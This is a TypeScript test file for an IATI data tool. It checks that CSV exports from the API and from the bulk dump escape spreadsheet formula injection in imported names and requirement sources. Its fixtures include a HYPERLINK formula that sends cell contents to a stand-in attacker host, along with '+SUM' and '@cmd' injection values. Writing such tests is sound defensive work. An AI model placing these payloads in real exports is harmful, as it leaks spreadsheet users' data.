/**
 * Every text column of every CSV is guarded against formula injection, whoever wrote the
 * text: names read from an imported IATI file and a requirement's source included, in
 * the API's CSV and in `iif export all`, on SQLite and PostgreSQL.
 */
import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { it } from "node:test";
import { cliActor } from "../../src/lib/actor.ts";
import { ImportService } from "../../src/modules/activities/import.service.ts";
import { describeEachDialect } from "../helpers/app.ts";
import { csvRecords } from "../helpers/csv.ts";
import { exportAll, requirementInput } from "../helpers/records.ts";

const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")';
const dir = mkdtempSync(join(tmpdir(), "iif-csv-guard-"));

const iati = `<?xml version="1.0" encoding="UTF-8"?>
<iati-activities version="2.03">
 <iati-activity default-currency="USD" last-updated-datetime="2021-01-01T00:00:00Z" xml:lang="en">
  <iati-identifier>XM-GUARD-1</iati-identifier>
  <reporting-org ref="XM-GUARD" type="10"><narrative>${formula.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}</narrative></reporting-org>
  <title><narrative>Guard test</narrative></title>
  <transaction>
   <transaction-type code="3"/><transaction-date iso-date="2020-05-01"/>
   <value value-date="2020-05-01">-1500</value>
   <provider-org ref="XM-P"><narrative>+SUM(1,2)</narrative></provider-org>
   <receiver-org ref="XM-R"><narrative>@cmd</narrative></receiver-org>
  </transaction>
 </iati-activity>
</iati-activities>
`;

async function csv(
	ctx: () => { app: { inject: (o: object) => Promise<{ body: string }> } },
	url: string,
) {
	return csvRecords((await ctx().app.inject({ method: "GET", url })).body);
}

describeEachDialect("CSV formula guard", (ctx) => {
	it("guards names from an imported IATI file and a requirement's source, and no amount", async () => {
		const path = join(dir, `guard-${ctx().dialect}.xml`);
		writeFileSync(path, iati);
		const r = await new ImportService(ctx().db.database).importFiles([path], cliActor);
		assert.equal(r.failed.length, 0, JSON.stringify(r.failed));
		await ctx().services.requirements.create(
			requirementInput(`guard-requirement-${ctx().dialect}`, { source_title: "-2+3 estimate" }),
			cliActor,
		);
		const activities = await csv(ctx, "/api/v1/activities?format=csv&reporting_org=XM-GUARD");
		assert.equal(activities.rows[0]?.reporting_org_name, `'${formula}`);
		const transactions = await csv(ctx, "/api/v1/transactions?format=csv&activity=XM-GUARD-1");
		const t = transactions.rows[0];
		assert.equal(t?.reporting_org_name, `'${formula}`);
		assert.equal(t?.provider_org_name, "'+SUM(1,2)");
		assert.equal(t?.receiver_org_name, "'@cmd");
		const amount = Object.entries(t ?? {}).find(([k]) => k.startsWith("value"))?.[1];
		assert.match(amount ?? "", /^-1500/, "a negative amount stays a number");
		const requirements = await csv(ctx, "/api/v1/requirements?format=csv");
		const req = requirements.rows.find((x) => x.slug === `guard-requirement-${ctx().dialect}`);
		assert.equal(req?.source_title, "'-2+3 estimate");
		// The JSON keeps the text as written.
		const json = await ctx().get("/api/v1/activities?reporting_org=XM-GUARD");
		assert.equal(json.body.items[0].reporting_org.name, formula);

		// And the dump the operator writes, through the same columns.
		const dumpDir = await exportAll(ctx(), join(dir, `dump-${ctx().dialect}`));
		const dumped = csvRecords(readFileSync(join(dumpDir, "transactions.csv"), "utf8"));
		const row = dumped.rows.find((x) => x.provider_org_name === "'+SUM(1,2)");
		assert.ok(row, "the dump's transactions are guarded too");
		assert.equal(row.reporting_org_name, `'${formula}`);
	});
});
